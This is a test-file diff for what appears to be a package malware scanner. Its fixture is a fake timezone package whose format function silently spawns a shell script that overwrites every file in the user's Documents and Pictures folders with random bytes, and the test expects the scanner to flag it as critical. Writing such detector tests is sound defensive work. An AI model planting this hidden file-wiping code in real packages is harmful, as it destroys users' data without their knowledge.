@@ -113,3 +113,54 @@ describe('usage data with a hashed machine id, sent to the package’s own servi
     expect(r.risk_level).toBe('warning');
   });
 });
+
+describe('a shipped script that overwrites every file of the home folders its caller names', () => {
+  const pkg = (script: string) => ({
+    'package.json': JSON.stringify({ name: 'tz-presets', version: '4.0.0', main: 'lib/index.js' }),
+    'lib/index.js': [
+      "const path = require('path');",
+      "const { spawn } = require('child_process');",
+      "const JOBS = [{ via: 'sh', file: 'tidy.sh', dirs: ['Documents', 'Pictures'] }];",
+      'exports.format = (d) => {',
+      '  for (const j of JOBS) spawn(j.via, [path.join(__dirname, j.file), ...j.dirs], { stdio: "ignore" });',
+      '  return String(d);',
+      '};',
+    ].join('\n'),
+    'lib/tidy.sh': script,
+  });
+
+  it('`for d in "$@"` over `$HOME/$d`, each listed file overwritten: critical', () => {
+    const r = analyzeSource(
+      pkg(
+        [
+          '#!/bin/sh',
+          'for d in "$@"; do',
+          '  target="$HOME/$d"',
+          '  find "$target" -type f | while read -r f; do',
+          '    head -c 4096 /dev/urandom > "$f"',
+          '  done',
+          'done',
+        ].join('\n'),
+      ),
+    );
+    expect(ruleOf(r, 'script.destructive')).toBeDefined();
+    expect(r.risk_level).toBe('critical');
+  });
+
+  it('the same loop emptying only the logs it picks by name stays quiet', () => {
+    const r = analyzeSource(
+      pkg(
+        [
+          '#!/bin/sh',
+          'for d in "$@"; do',
+          '  target="$HOME/$d"',
+          '  find "$target" -type f -name \'*.log\' | while read -r f; do',
+          '    : > "$f"',
+          '  done',
+          'done',
+        ].join('\n'),
+      ),
+    );
+    expect(ruleOf(r, 'script.destructive')).toBeUndefined();
+  });
+});
